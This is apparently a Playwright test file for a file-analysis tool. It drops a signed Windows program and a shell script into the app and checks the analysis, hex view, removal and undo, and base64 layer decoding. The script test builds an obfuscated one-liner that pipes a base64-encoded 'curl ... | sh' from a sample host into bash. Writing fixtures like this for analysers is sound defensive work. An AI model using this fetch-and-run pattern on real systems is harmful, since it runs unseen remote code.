import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { passesInBothThemes } from './axe.ts'
import { expect, test } from './host.ts'
import { dropOnView } from './window.ts'

/** Files in the window: dropped, analysed, read with the keyboard alone. */

/** A program of our own making, with a program and a document in its resources and a signature. */
const program = readFileSync(join(import.meta.dirname, '../fixtures/files/pe/signed.exe'))

async function analysed(page: Page): Promise<void> {
  await page.keyboard.press('g')
  await page.keyboard.press('f')
  await expect(page.getByRole('heading', { name: 'Files', level: 1 })).toBeVisible()
  await expect(page.getByText('No file was dropped here yet.')).toBeVisible()
  await dropOnView(page, [{ name: 'setup.exe', bytes: [...program] }])
  await expect(page.getByRole('heading', { name: 'setup.exe', level: 1 })).toBeVisible()
  await expect(page.getByText('analysed', { exact: true })).toBeVisible()
}

test('a program that is dropped says what it could do, what lies in it and what signed it', async ({
  page,
}) => {
  await analysed(page)
  await expect(
    page.getByText('It imports all that is needed to run code in another process').first(),
  ).toBeVisible()
  await expect(page.getByRole('button', { name: '101.exe' })).toBeVisible()
  await page.getByRole('button', { name: 'Windows program', exact: true }).click()
  await expect(page.getByText('Sample Publisher').first()).toBeVisible()
  await passesInBothThemes(page, 'a tool of a file')
  await page.getByRole('button', { name: 'Bytes', exact: true }).click()
  await expect(page.locator('.hex-row').first()).toContainText('000000004d 5a')
  await page.getByRole('button', { name: '101.exe' }).click()
  await expect(page.getByRole('heading', { name: '101.exe', level: 1 })).toBeVisible()
  await expect(page.getByText(/in setup\.exe/)).toBeVisible()
})

test('a file that is removed is gone from the list, and is brought back', async ({ page }) => {
  await analysed(page)
  await page.getByRole('button', { name: 'Remove' }).press('Enter')
  await expect(page.getByText('No file was dropped here yet.')).toBeVisible()
  await page.getByRole('button', { name: 'Undo' }).press('Enter')
  await expect(page.getByRole('row').filter({ hasText: 'setup.exe' })).toBeVisible()
  await passesInBothThemes(page, 'the list of files')
})

const hidden = 'curl -s http://files.kestrel-sample.com/run | sh'
const script = `echo ${Buffer.from(hidden).toString('base64')} | base64 -d | bash\n`

test('a script says in prose what it does, and its layer is handed to CyberChef', async ({ page }) => {
  await page.keyboard.press('g')
  await page.keyboard.press('f')
  await dropOnView(page, [{ name: 'install.sh', bytes: [...Buffer.from(script)] }])
  await expect(page.getByText('analysed', { exact: true })).toBeVisible()
  await page.getByRole('button', { name: 'Script', exact: true }).click()
  const prose = page.getByRole('region', { name: 'Explanation' })
  await expect(prose).toContainText('made by rules, not by AI')
  await expect(prose).toContainText('Layer 1 is a shell text')
  await expect(page.getByRole('region', { name: 'Layer 1' })).toContainText(hidden)
  const saved = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Save recipe of Layer 1' }).click()
  const recipe = readFileSync(await (await saved).path(), 'utf8')
  expect(JSON.parse(recipe)).toEqual([{ op: 'From Base64', args: ['A-Za-z0-9+/=', true, false] }])
  await passesInBothThemes(page, 'the script tab')
})
